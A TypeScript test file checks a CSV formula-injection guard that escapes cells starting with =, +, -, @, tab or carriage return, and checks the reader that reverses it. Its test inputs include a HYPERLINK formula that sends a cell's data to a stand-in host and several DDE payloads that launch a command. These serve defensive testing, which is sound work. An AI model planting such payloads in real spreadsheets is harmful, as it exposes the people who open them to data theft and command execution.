import { describe, expect, it } from 'vitest';
import { csvCellValue, csvSafeCell } from './csv-cell.ts';

const HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';

describe('csvSafeCell', () => {
  it.each([
    ['=', '=1+2', "'=1+2"],
    ['+', '+cmd|" /C calc"!A0', '\'+cmd|" /C calc"!A0'],
    ['-', '-2+3+cmd|" /C calc"!A0', '\'-2+3+cmd|" /C calc"!A0'],
    ['@', '@SUM(1+9)*cmd|" /C calc"!A0', '\'@SUM(1+9)*cmd|" /C calc"!A0'],
    ['tab', '\t=1+2', "'\t=1+2"],
    ['carriage return', '\r=1+2', "'\r=1+2"],
    ['a lone minus', '-', "'-"],
    ['a minus that is no plain number', '-33,45', "'-33,45"],
  ])('guards a cell that starts with %s', (_, value, written) => {
    expect(csvSafeCell(value)).toBe(written);
  });

  it('keeps the double quotes inside: quoting them is the writer’s part', () => {
    expect(csvSafeCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(csvSafeCell('Say "hola"')).toBe('Say "hola"');
  });

  it('leaves plain numbers alone, as numbers or as text', () => {
    for (const value of [-33.4446, -70.6553, 0, 2_400_000, 1e-7, -1e21])
      expect(csvSafeCell(value)).toBe(String(value));
    for (const text of ['-33.4446', '+56912345678', '-5', '.5', '-1.5e3'])
      expect(csvSafeCell(text)).toBe(text);
  });

  it('leaves ordinary text, empty cells and formula characters further in alone', () => {
    expect(csvSafeCell('Sabores del Sur')).toBe('Sabores del Sur');
    expect(csvSafeCell('planner@plano.test')).toBe('planner@plano.test');
    expect(csvSafeCell('a=b, c-d')).toBe('a=b, c-d');
    expect(csvSafeCell(" '=1")).toBe(" '=1");
    expect(csvSafeCell("'quoted")).toBe("'quoted");
    expect(csvSafeCell('')).toBe('');
    expect(csvSafeCell(null)).toBe('');
    expect(csvSafeCell(undefined)).toBe('');
    expect(csvSafeCell(true)).toBe('true');
  });

  it('guards a cell that already starts with a guard before a formula, so it reads back the same', () => {
    expect(csvSafeCell("'=1+2")).toBe("''=1+2");
    expect(csvSafeCell("''-5")).toBe("'''-5");
  });
});

describe('csvCellValue', () => {
  it('gives back every value csvSafeCell wrote', () => {
    for (const value of [
      HYPERLINK,
      '+1+1',
      '-',
      '-33.4446',
      '@x',
      '\tx',
      '\rx',
      "'=1",
      "''+2",
      "'quoted",
      "'",
      "'-5",
      'plain',
      '',
    ])
      expect(csvCellValue(csvSafeCell(value)), JSON.stringify(value)).toBe(value);
  });

  it('takes the guard off a cell another OWASP writer guarded, and leaves other quotes', () => {
    expect(csvCellValue("'-33.4446")).toBe('-33.4446');
    expect(csvCellValue("'O'Higgins")).toBe("'O'Higgins");
    expect(csvCellValue("it's")).toBe("it's");
  });
});
